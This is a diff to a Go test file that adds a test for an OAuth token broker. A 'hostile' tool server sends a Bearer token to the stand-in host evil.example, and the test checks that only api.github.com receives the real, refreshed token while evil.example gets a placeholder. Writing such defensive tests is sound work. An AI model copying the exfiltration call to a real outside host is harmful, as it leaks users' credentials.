@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/pfar/pfar/cmd/pfard/control"
+	"github.com/pfar/pfar/policies/redact"
 )
 
 // identity is a token endpoint on loopback that gives out 1, 2 and so on with zeros before them, which is too plain to be kept out of results, and
@@ -131,6 +132,82 @@ func TestOAuth(t *testing.T) {
 		t.Errorf("the log does not say so: %s", p.stderr)
 	}
 	p.search(t, "RT-0-hunter2hunter2", "RT-1-hunter2hunter2", "CS-hunter2")
+}
+
+// TestBrokeredOAuth: the API sees the new token in place of the same placeholder as soon as there is one, from a server that
+// is not started again, and the old one never more.
+func TestBrokeredOAuth(t *testing.T) {
+	if os.Getuid() != 0 {
+		return // another network takes root, and the test has run as root
+	}
+	requests, wrap := startAPIs(t)
+	p := prepare(t, map[string]string{"drive.hcl": `allowed_domains = ["api.github.com", "evil.example"]` + "\n" +
+		declare(program(t, "hostile"), nil, `auth = { TOKEN = { secret = "vault:drive", deliver = "broker", hosts = ["api.github.com"] } }`)})
+	p.up(wrap...)
+	p.await("drive waiting", soon, inState("drive", control.Waiting))
+	p.stdin = fmt.Sprintf(`{"access_token":%q,"refresh_token":"RT-0-hunter2hunter2","expires_in":6,"token_url":"https://api.github.com/token","client_id":"id","client_secret":"CS-hunter2"}`, githubToken)
+	if _, stderr, code := p.command("vault", "set", "drive", "--oauth"); code != 0 {
+		t.Fatal(stderr)
+	}
+	before := server(p.awaitRunning("drive"), "drive").PID
+	c := p.client("/mcp/drive")
+	var refreshed time.Time // when the endpoint was asked, if it was
+	seen := func(host string) (authorization string) {
+		t.Helper()
+		r, err := c.call("fetch", map[string]any{"method": "GET", "url": "https://" + host + "/echo", "headers": map[string]any{"Authorization": "Bearer $TOKEN"}})
+		check(t, err)
+		for _, form := range append(redact.Forms(githubToken), redact.Forms(githubToken2)...) {
+			if strings.Contains(r.text, form) {
+				t.Errorf("the server sees %q", form)
+			}
+		}
+		for {
+			select {
+			case q := <-requests:
+				if q.Path == "/echo" && q.Host == host {
+					return strings.TrimPrefix(q.Authorization, "Bearer ")
+				}
+				if q.Path == "/token" && refreshed.IsZero() {
+					refreshed = time.Now()
+				} else {
+					t.Errorf("there is a request of %+v", q)
+				}
+			case <-time.After(soon):
+				t.Fatal("the request has not arrived")
+			}
+		}
+	}
+	placeholder := seen("evil.example")
+	if got := seen("api.github.com"); got != githubToken || len(placeholder) != len(githubToken) || placeholder == githubToken {
+		t.Fatalf("at first the API sees %q, and another host %q", got, placeholder)
+	}
+	var old int
+	eventually(t, func() bool {
+		switch got := seen("api.github.com"); got {
+		case githubToken2:
+			return true
+		case githubToken:
+			old++
+		default:
+			t.Fatalf("the API sees %q", got)
+		}
+		return false
+	})
+	if took := time.Since(refreshed); refreshed.IsZero() || took > time.Second || old == 0 {
+		t.Errorf("the API sees the new token after %s, and has seen the old one %d times", took, old)
+	}
+	for range 30 {
+		if got := seen("api.github.com"); got != githubToken2 {
+			t.Errorf("afterwards the API sees %q", got)
+		}
+	}
+	if got := seen("evil.example"); got != placeholder {
+		t.Errorf("the placeholder is %q, and was %q", got, placeholder)
+	}
+	if after := server(p.awaitRunning("drive"), "drive").PID; after != before {
+		t.Error("the server was started again")
+	}
+	p.search(t, githubToken, githubToken2, "RT-0-hunter2hunter2", "RT-1-hunter2hunter2", "CS-hunter2")
 }
 
 func eventually(t *testing.T, met func() bool) {
